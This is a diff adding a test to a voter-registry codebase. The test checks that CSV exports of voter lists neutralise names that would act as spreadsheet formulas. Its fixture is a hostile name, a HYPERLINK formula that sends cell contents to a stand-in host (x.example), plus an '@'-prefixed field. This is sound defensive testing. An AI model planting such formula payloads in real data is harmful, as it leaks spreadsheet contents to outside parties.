@@ -272,3 +272,13 @@ def test_a_voter_in_another_polling_area_is_a_move(registry: Deployment) -> None
         ]
     assert (built.added, built.removed) == (0, 0)
     assert changes == [("P1", "moved", "area_changed", "C01-V02")]
+
+
+def test_a_hostile_name_cannot_become_a_spreadsheet_formula(deployment: Deployment) -> None:
+    hostile = '=HYPERLINK("http://x.example/?"&A1,"Nguyễn")'
+    write(deployment, PERSONS, "persons", [person("P1", full_name=hostile, village="@C01")], "p1")
+    with deployment.store.session() as session:
+        build_voter_list(session, deployment, deployment.system("t"), "C01")
+        body = export_list(deployment, session, deployment.system("t"), "C01", "csv", reveal=True)
+    row = body.decode().splitlines()[1]
+    assert row.startswith("'@C01,P1,\"'=HYPERLINK(")
